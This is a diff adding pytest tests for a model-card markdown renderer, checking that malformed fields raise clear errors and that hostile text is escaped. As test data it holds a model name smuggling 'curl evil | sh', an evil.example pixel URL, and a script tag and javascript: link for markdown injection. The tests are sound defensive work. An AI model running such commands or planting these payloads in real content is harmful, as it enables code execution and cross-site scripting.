@@ -2,7 +2,13 @@
 
 from __future__ import annotations
 
+import re
+from typing import Any
+
+import pytest
+
 from mutualformer.runtime.card import markdown
+from mutualformer.runtime.contract import ContractError
 
 CARD = {
     "model": "sod-lite",
@@ -46,3 +52,55 @@ def test_an_empty_card_says_what_it_does_not_know() -> None:
     assert "Not stated." in text
     assert "Not evaluated." in text
     assert "not recorded" in text
+
+
+DEEP: Any = {"a": [[[["x"]]]]}
+
+
+@pytest.mark.parametrize(
+    ("change", "says"),
+    [
+        ({"metrics": 5}, "metrics is 5"),
+        ({"metrics": {"sets": {"a": "b"}}}, "a is 'b'"),
+        ({"metrics": {"sets": [1]}}, "sets is"),
+        ({"metrics": {"mae": "x"}}, "mae is 'x'"),
+        ({"metrics": {"mae": 0.1, "standard_error": 3}}, "standard_error is 3"),
+        ({"metrics": {"mae": 0.1, "over_seeds": "x"}}, "over_seeds is 'x'"),
+        ({"metrics": {"mae": 0.1, "over_seeds": {"mae": 1}}}, "mae is 1"),
+        ({"metrics": {"conditions": DEEP}}, "conditions is"),
+        ({"data": [1, 2]}, "data is"),
+        ({"recipe": "x"}, "recipe is 'x'"),
+        ({"calibration": [1]}, "calibration is"),
+        ({"params": "many"}, "params is 'many'"),
+        ({"limits": {"a": 1}}, "limits is"),
+        ({"input_size": 3}, "input_size is 3"),
+        ({"input_size": [1]}, "input_size is"),
+        ({"model": "x`; curl evil | sh"}, "model is"),
+        ({"task": ["sod"]}, "task is"),
+        ({"picture": "https://evil.example/pixel.png"}, "picture is"),
+    ],
+)
+def test_a_strange_card_is_one_sentence(change: dict[str, Any], says: str) -> None:
+    with pytest.raises(ContractError, match=rf"^model card.*{re.escape(says)}.*expected"):
+        markdown({**CARD, **change})
+
+
+@pytest.mark.parametrize("key", ["limits", "data", "recipe", "conditions", "set", "over", "options"])
+def test_text_of_a_card_stays_text(key: str) -> None:
+    hostile = "---\n# title\n<script>alert(1)</script> [click](javascript:x) ![](http://e/p.png)\n```sh\nsh\n```"
+    metrics: dict[str, Any] = {
+        "conditions": {"metrics": {"conditions": hostile}},
+        "set": {"metrics": {"sets": {hostile: {"mae": 0.1}}}},
+        "over": {"metrics": {"data": hostile, "mae": 0.1, "standard_error": {"over": hostile}}},
+        "options": {"overrides": {hostile: hostile}},
+    }
+    text = markdown({**CARD, **metrics.get(key, {key: hostile if key == "limits" else {hostile: hostile}})})
+    plain = markdown(CARD)
+    outside = re.sub(r"^On `[^`\n]*`", "", text, flags=re.M)  # code spans show what they hold
+    assert "<script" not in outside
+    assert not re.search(r"(?<!\\)\]\((http|javascript)", outside)
+    assert outside.count("```") == plain.count("```")
+    assert [line for line in text.splitlines() if line.startswith("#")] == [
+        line for line in plain.splitlines() if line.startswith("#")
+    ]
+    assert text.splitlines().count("---") == 2
